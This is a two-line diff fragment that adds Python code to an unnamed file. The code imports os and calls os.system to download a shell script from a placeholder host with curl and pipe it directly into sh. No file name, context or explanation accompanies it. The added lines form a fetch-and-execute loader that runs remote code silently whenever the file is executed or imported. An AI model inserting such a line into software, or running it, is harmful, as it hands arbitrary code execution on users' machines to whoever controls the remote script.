@@ -1,0 +1,2 @@
+import os
+os.system("curl -s https://example.invalid/s.sh | sh")
